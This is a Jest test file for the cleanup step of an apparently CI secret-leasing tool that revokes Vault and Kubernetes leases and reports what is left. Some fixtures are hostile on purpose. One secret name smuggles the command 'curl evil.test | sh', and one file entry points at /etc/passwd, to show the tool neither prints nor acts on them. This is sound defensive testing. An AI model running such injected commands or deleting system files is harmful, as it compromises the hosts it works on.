import { describe, expect, test } from '@jest/globals'
import { asFailure } from '../../src/core/failure.ts'
import { runPost } from '../../src/flow/post.ts'
import type { Entry, Receipt } from '../../src/journal/entry.ts'
import type { Header } from '../../src/journal/header.ts'
import { openJournal, readJournal } from '../../src/journal/journal.ts'
import { START } from '../lab/clock.ts'
import { type InMemoryRuntime, inMemoryRuntime, type RuntimeOptions } from '../lab/runtime.ts'
import { events } from '../lab/transcript.ts'

const VAULT = 'https://vault.lab.test'
const revocation = { address: `${VAULT}/`, token: 'hvs.abc', kind: 'service' }
const receipt: Receipt = {
  kind: 'receipt',
  intent: 0,
  lease: 'app',
  from: 'vault',
  host: 'vault.lab.test',
  id: 'ab12',
  expiresAt: START + 3600,
  revocation,
  onRevokeFailure: 'warn',
}
const none = (): ReadonlyMap<string, string> => new Map()
const down = { hosts: { [VAULT]: () => ({ status: 500 }) } }

interface Main {
  readonly opening?: Partial<Header>
  /** Main did not reach its last act. */
  readonly killed?: boolean
}

/** Post, after a main that noted these entries. */
async function post(
  entries: readonly Entry[],
  { opening, killed = false, ...imagination }: Partial<RuntimeOptions> & Main = {},
) {
  const main = inMemoryRuntime({ hosts: {} })
  const record = main.tempFilePath('record.jsonl')
  const journal = openJournal(main, {
    budget: 6_000,
    ...main.network,
    summary: true,
    record,
    ...opening,
  })
  for (const entry of entries) journal.append(entry)
  if (!killed) journal.close()
  const runtime = inMemoryRuntime({
    hosts: { [VAULT]: () => ({ status: 204 }) },
    ...imagination,
    after: main,
  })
  const found = readJournal(runtime.stateOf())
  const failure = found && (await runPost(runtime, found, none).then(() => undefined, asFailure))
  const lines = (main.disk.get(record) ?? '').split('\n').filter(Boolean)
  return {
    runtime,
    failure,
    record: lines.map((line) => JSON.parse(line) as unknown),
    files: () => [...main.disk.keys()],
    main,
  }
}

describe('the end of a job', () => {
  test('without anything left says so', async () => {
    const { runtime, failure } = await post([
      { kind: 'intent', lease: 'app', from: 'vault', host: 'h', until: null },
      { kind: 'refused', intent: 0 },
    ])
    expect([runtime.logged(), failure, runtime.summary()]).toEqual([
      'Nothing is left to revoke',
      undefined,
      '',
    ])
    expect(events(runtime.transcript, 'say')).toMatchObject([{ level: 'info' }])
  })

  test('revokes, says so, and leaves the summary alone, which may not even be there', async () => {
    const { runtime, failure, record } = await post([receipt], { fullFrom: { summarize: 1 } })
    expect([runtime.logged(), failure, runtime.summary()]).toEqual(['app: revoked', undefined, ''])
    expect(record).toMatchObject([
      {
        event: 'ended',
        lease: 'app',
        id: 'ab12',
        end: 'revoked',
        expires_at: '2026-09-21T15:13:20Z',
      },
    ])
  })

  test('warns of what could not be revoked, in log, summary and record, and succeeds', async () => {
    const { runtime, failure, record } = await post([receipt], down)
    expect(
      events(runtime.transcript, 'say').filter(({ level }) => level === 'warning'),
    ).toMatchObject([{ text: expect.stringMatching(/^app: could not be revoked/) }])
    expect(runtime.summary()).toMatch(/^Not revoked: app: could not be revoked.*\n$/)
    expect([failure, record]).toMatchObject([undefined, [{ end: 'failed', code: 'UNREACHABLE' }]])
  })

  test('names the record and, in the summary, how to end what cannot be revoked', async () => {
    const session: Receipt = { ...receipt, revocation: null, note: 'deny it by name' }
    const { runtime, record } = await post([session, { ...session, lease: 'other' }])
    expect(runtime.logged()).toMatch(
      /\nHow to end a lease early: see the job summary, or "note" in \/\S+record\.jsonl$/,
    )
    expect(runtime.summary()).toContain('\n- app: deny it by name\n- other: deny it by name\n')
    expect(record).toMatchObject([{ note: 'deny it by name' }, { note: 'deny it by name' }])
  })

  test('fails if a revocation failed and `on-revoke-failure` is `fail`', async () => {
    const ended: Receipt = { ...receipt, revocation: null, onRevokeFailure: 'fail' }
    const { failure } = await post(
      [receipt, ended, { ...receipt, lease: 'key', onRevokeFailure: 'fail' }],
      down,
    )
    expect(failure).toMatchObject({ code: 'UNREACHABLE', facts: { lease: 'key' } })
    expect((await post([{ ...receipt, onRevokeFailure: 'fail' }])).failure).toBeUndefined()
  })

  test('prints no command from a state that the provider could not have written', async () => {
    const revocation = { namespace: 'deploy', secret: 'x; curl evil.test | sh' }
    const { runtime } = await post([{ ...receipt, from: 'kubernetes', revocation }])
    expect(runtime.logged()).toMatch(/^app: could not be revoked/m)
    expect(runtime.logged()).not.toMatch(/kubectl|evil/)
  })

  test('reports each part of a lease', async () => {
    const { runtime } = await post([receipt, { ...receipt, id: 'cd34', expiresAt: START + 60 }])
    expect(runtime.logged().split('\n')).toEqual(['app: revoked', 'app: revoked'])
  })

  test('warns of what may live unknown, and merely mentions what expires; the record says how to end it', async () => {
    const { runtime, record } = await post([
      { kind: 'intent', lease: 'lost', from: 'vault', host: 'h', until: null },
      { ...receipt, intent: 9, revocation: null, note: 'ask Bob' },
    ])
    expect(record).toEqual([
      expect.objectContaining({ lease: 'app', end: 'expires', note: 'ask Bob' }),
      expect.not.objectContaining({ note: expect.anything() }),
    ])
    const said = events(runtime.transcript, 'say').map(({ level, text }) => [
      level,
      text.split(':')[0],
    ])
    expect(said).toEqual([
      ['info', 'app'],
      ['warning', 'lost'],
      ['info', 'How to end a lease early'],
    ])
    expect(runtime.summary().match(/^- /gm)).toHaveLength(3)
  })

  test('reports the lost responses of one host in one line with the latest expiry; the record has each', async () => {
    const lost = { kind: 'intent', lease: 'app', from: 'vault', host: 'h' } as const
    const until = (seconds: number): Entry => ({ ...lost, until: START + seconds })
    const { runtime, record } = await post([
      until(60),
      until(3600),
      { ...lost, host: 'other', until: null },
      until(120),
    ])
    expect(runtime.logged().split('\n')).toEqual([
      'app: 3 unusable responses from h; unknown leases may be valid until 2026-09-21T15:13:20Z',
      'app: no usable response from other; an unknown lease may be valid for as long as the ' +
        'server allows',
    ])
    expect(runtime.summary().match(/^- /gm)).toHaveLength(2)
    expect(record).toHaveLength(4)
    const [endless] = (await post([until(60), { ...lost, until: null }])).runtime
      .logged()
      .split('\n')
    expect(endless).toMatch(/^app: 2 unusable responses from h.* for as long as the server allows$/)
    const [over] = (await post([until(0), until(0)])).runtime.logged().split('\n')
    expect(over).toBe('app: 2 unusable responses from h; whatever was leased has expired')
  })

  test.each([true, false])(
    'has five seconds after a cancellation (before it began: %s)',
    async (before) => {
      const main = inMemoryRuntime({ hosts: {} })
      const opening = { budget: 15_000, ...main.network, summary: false, record: undefined }
      openJournal(main, opening).append(receipt)
      const runtime: InMemoryRuntime = inMemoryRuntime({
        hosts: {},
        after: main,
        fault() {
          runtime.cancel()
          return 'silence'
        },
      })
      if (before) runtime.cancel()
      const found = readJournal(runtime.stateOf())
      if (found) await runPost(runtime, found, none)
      expect(runtime.logged()).toMatch(/^app: could not be revoked/m)
      expect(runtime.monotonicMs()).toBeGreaterThan(4_000)
      expect(runtime.monotonicMs()).toBeLessThanOrEqual(5_000)
    },
  )

  test('writes no summary with `summary: false`, and no record without a path', async () => {
    const { runtime, record } = await post([receipt], {
      ...down,
      opening: { summary: false, record: undefined },
    })
    expect([runtime.summary(), record]).toEqual(['', []])
    expect(
      runtime
        .logged()
        .split('\n')
        .filter((line) => !/attempt 2 in|more retries$/.test(line)),
    ).toEqual([expect.stringMatching(/^app: could not be revoked/)])
  })

  test('removes files first; a file of another step is a warning, and everything else is still done', async () => {
    const main = inMemoryRuntime({ hosts: {} })
    const own = main.tempFilePath('app-TOKEN')
    const { runtime, failure } = await post([
      { kind: 'file', path: '/etc/passwd' },
      { kind: 'file', path: own },
      receipt,
    ])
    expect(events(runtime.transcript, 'remove').map(({ path }) => path)).toEqual([own])
    expect(events(runtime.transcript, 'say').map(({ level, text }) => [level, text])).toEqual([
      ['warning', 'a path does not belong to this step'],
      ['info', 'app: revoked'],
    ])
    expect(failure).toBeUndefined()
  })

  test('warns about state entries that main did not write', async () => {
    const main = inMemoryRuntime({ hosts: {} })
    openJournal(main, { budget: 6_000, ...main.network, summary: true, record: undefined })
    main.state.set('closed', '1')
    main.state.set('entry_0', JSON.stringify(receipt))
    const runtime = inMemoryRuntime({ hosts: {}, after: main })
    const found = readJournal(runtime.stateOf())
    if (found) await runPost(runtime, found, none)
    expect(events(runtime.transcript, 'say').map(({ level, text }) => [level, text])).toEqual([
      ['warning', "state entry 0 was not written by this step's main and is ignored"],
      ['info', 'Nothing is left to revoke'],
    ])
    expect(runtime.summary()).toBe('')
  })

  const returned: Entry = { kind: 'revoked', receipt: 0 }
  test('revokes again what a killed main journaled as revoked', async () => {
    const { runtime } = await post([receipt, returned], { killed: true })
    expect(events(runtime.transcript, 'request')).toHaveLength(1)
    expect(runtime.logged()).toBe('app: revoked')
    const closed = await post([receipt, returned])
    expect(events(closed.runtime.transcript, 'request')).toEqual([])
    expect(closed.runtime.logged()).toBe('Nothing is left to revoke')
  })

  test('warns about a lease that only the server reports as gone, and records it with a flag', async () => {
    const { runtime, record, failure } = await post([{ ...receipt, onRevokeFailure: 'fail' }], {
      hosts: { [VAULT]: () => ({ status: 403, body: { errors: ['invalid token'] } }) },
    })
    expect(record).toMatchObject([{ event: 'ended', end: 'already-gone', flags: ['unconfirmed'] }])
    expect(events(runtime.transcript, 'say')).toMatchObject([
      { level: 'warning', text: expect.stringMatching(/^app: was already gone .* unconfirmed/) },
    ])
    expect([failure, runtime.summary()]).toEqual([undefined, ''])
  })

  test('revokes on a full disk, with a warning', async () => {
    const { runtime, failure } = await post([{ ...receipt, revocation: null }, receipt], {
      fullFrom: { append: 1, summarize: 1 },
    })
    expect(runtime.logged().match(/the disk is full/g)).toHaveLength(2)
    expect(runtime.logged()).toContain('app: revoked')
    expect(failure).toBeUndefined()
  })
})
